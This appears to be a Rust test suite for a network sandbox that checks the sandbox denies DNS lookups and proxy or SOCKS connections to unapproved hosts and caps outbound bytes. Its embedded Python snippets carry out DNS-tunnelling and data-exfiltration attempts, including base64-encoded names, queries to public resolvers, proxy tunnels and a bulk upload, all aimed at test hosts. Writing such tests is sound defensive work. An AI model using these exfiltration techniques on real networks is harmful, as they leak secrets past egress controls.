//! Names as a way out: whom they are asked, and what is said by asking.

use cofferdam_testkit::rows::Row;

use crate::world::{World, log};
use crate::{Ended, row};

row!("NET-03", no_resolver_but_ours_is_asked);
row!("NET-04", what_is_not_allowed_is_not_looked_up);

const ASK_ANYBODY: &str = r"
for to in ['203.0.113.53', '8.8.8.8', '1.1.1.1', '10.0.0.53', '127.0.0.53', '2001:4860:4860::8888']:
    attempt(f'UDP to {to}', lambda: asks('secret.wild.test', to))
    attempt(f'AAAA from {to}', lambda: asks('api.test', to, 28))
    def over_tcp():
        asked = question('secret.wild.test')
        with dial(to, 53) as stream:
            stream.sendall(struct.pack('>H', len(asked)) + asked)
            resolved(stream.recv(4096)[2:][28:])
    if not to.startswith('127.'): attempt(f'TCP to {to}', over_tcp)
for to in ['8.8.8.8', 'dns.wild.test']:
    attempt(f'TLS to {to}', lambda: reaches(to, 853))
    attempt(f'HTTPS to {to}', lambda: reaches(to, 443, 'dns.wild.test'))
attempt('mDNS', lambda: echoes('203.0.113.53', 5353))
attempt('LLMNR', lambda: echoes('203.0.113.53', 5355))
attempt('QUIC', lambda: echoes('203.0.113.53', 853))
";

fn no_resolver_but_ours_is_asked(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    world.denies(row, &["--allow", "second.test"], ASK_ANYBODY);
    // Where a policy says so, a name that isn't allowed isn't there.
    let policy = row.product().file("nxdomain.toml", "version = 1\n[dns]\ndenied = \"nxdomain\"\n");
    row.product().give(&policy);
    let gone = r"
def gone(name, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(3)
        stream.sendto(question(name, kind), ('8.8.8.8', 53))
        if stream.recv(4096)[3] & 15 == 3: raise OSError('no such name')
for kind in [1, 28, 16, 255]: attempt(f'type {kind}', lambda: gone('secret.wild.test', kind))
";
    let policy = ["--policy", policy.to_str().unwrap()];
    world.denies(
        row,
        &policy,
        &format!("{gone}\nattempt('libc', lambda: socket.gethostbyname('secret.wild.test'))"),
    );
    assert!(log(row).contains("\"event\":\"dns.denied\""));
    Ended::Tested
}

/// Names that carry something, asked for in every way there is.
pub(crate) const SECRETS: &str = r"
for name in ['c2VjcmV0.wild.test', 'x' * 60 + '.wild.test', 'c2VjcmV0.denied.test']:
    def by_libc(): resolved(socket.inet_aton(socket.gethostbyname(name)))
    attempt(f'libc {name[:9]} {name[-11:]}', by_libc)
    attempt(f'HTTPS {name[:9]} {name[-11:]}', lambda: reaches(name, 443, name))
    attempt(f'HTTP {name[:9]} {name[-11:]}', lambda: reaches(name, 80, name))
";

/// The same, asked of the proxy.
const SECRETS_OF_THE_PROXY: &str = r"
for name in [b'c2VjcmV0.wild.test', b'c2VjcmV0.denied.test']:
    attempt(f'CONNECT {name}', lambda: tunnels(name + b':443'))
    attempt(f'absolute {name}', lambda: through_proxy(b'GET http://' + name + b'/canary HTTP/1.1\r\nHost: ' + name + b'\r\n\r\n'))
    attempt(f'SOCKS {name}', lambda: socks(name))
";

const RIGHT: &str = r"
attempt('CONNECT', lambda: tunnels(b'allowed.test:443'))
attempt('SOCKS', lambda: socks(b'allowed.test'))
";

fn what_is_not_allowed_is_not_looked_up(row: &mut Row) -> Ended {
    let world = match World::around(row) {
        Ok(world) => world,
        Err(ended) => return ended,
    };
    world.denies(row, &["--allow", "allowed.test"], SECRETS);
    let refused = world.denies_what_is_wrong(row, &["--allow", "allowed.test"], SECRETS_OF_THE_PROXY, RIGHT);
    assert!(refused["CONNECT_b'c2VjcmV0.wild.test'"].detail.contains("403 host_not_allowed"), "{refused:?}");
    what_is_allowed_is_bounded(row, &world);
    Ended::Tested
}

/// What can be said by names that are allowed, and by bodies, ends at the budget.
pub(crate) fn what_is_allowed_is_bounded(row: &mut Row, world: &World) {
    let _ = world.net.seen();
    let text = "version = 1\n[limits]\nhosts = 3\nbytes_out = \"64KiB\"\n[[network.allow]]\nhost = \"*.wild.test\"\n\
                [[network.allow]]\nhost = \"api.test\"\n";
    let policy = row.product().file("budget.toml", text);
    row.product().give(&policy);
    let policy = ["--policy", policy.to_str().unwrap()];
    let names =
        "for n in range(8): attempt(f'name {n}', lambda: reaches(f'n{n}.wild.test', 443, f'n{n}.wild.test'))";
    let (attempts, outcome) = world.inside(row, &policy, names);
    let got_through = attempts.values().filter(|attempt| attempt.breach).count();
    let seen = world.net.seen();
    assert_eq!((got_through, seen.names().len()), (3, 3), "{attempts:?} {:?} {outcome:#}", seen.names());
    let upload = r"
def upload():
    with dial('api.test', 443, 'api.test') as stream:
        stream.sendall(request('api.test', '/upload', 'POST', 'Content-Length: 2000000\r\n'))
        for _ in range(200): stream.sendall(b'x' * 10000)
        if b'2000000' not in stream.recv(4096): raise OSError('not taken')
attempt('upload', upload)
";
    let (attempts, outcome) = world.inside(row, &policy, upload);
    let seen = world.net.seen();
    let arrived: u64 = seen.requests.iter().map(|request| request.body_bytes).sum();
    assert!(!attempts["upload"].breach && arrived <= 64 << 10, "{arrived} bytes: {attempts:?}");
    let exceeded =
        outcome["denials"].as_array().unwrap().iter().any(|denial| denial["code"] == "limit_exceeded");
    assert!(exceeded, "{outcome:#}");
    let (attempts, _) = world.inside(row, &["--allow", "api.test"], upload);
    assert!(attempts["upload"].breach, "the positive control: {attempts:?}");
    row.proved();
    let arrived = world.net.seen();
    assert_eq!(arrived.requests[0].body_bytes, 2_000_000);
}
